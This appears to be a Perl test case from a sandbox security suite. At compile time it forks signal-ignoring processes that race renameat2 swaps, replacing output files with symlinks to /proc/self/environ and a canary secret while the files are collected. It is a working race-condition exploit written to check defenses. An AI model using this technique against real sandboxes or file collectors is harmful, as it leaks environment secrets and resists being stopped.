# id: B05-compile
# tries: to swap regular files for links to secrets while they are collected
# language: perl
# stops: [collect-after-kill, collect-beneath, collect-by-type]
# needs: [x86_64]
# repeat: 20
# expect: [AC]
use strict;
use warnings;

BEGIN {
    if ($^C) {
        for my $number (0 .. 63) {
            open my $file, ">", "file$number" or die;
            print $file "mine\n";
            symlink $number % 2 ? "@CANARY_DIR@/secret644" : "/proc/self/environ", "link$number" or die;
        }
        for my $half (0, 1) {
            next if fork;
            $SIG{$_} = "IGNORE" for qw(TERM HUP INT PIPE);
            close STDOUT;
            close STDERR;
            while (1) {
                # renameat2 with RENAME_EXCHANGE.
                for (my $number = $half; $number < 64; $number += 2) {
                    syscall 316, -100, "file$number", -100, "link$number", 2;
                }
            }
        }
        select undef, undef, undef, 0.05;
    }
}
for my $file (glob "file* link*") {
    open my $in, "<", $file or next;
    read $in, my $text, 4096;
    print STDERR "BREACH: $file: $text" if $text ne "mine\n";
}
print "42\n";
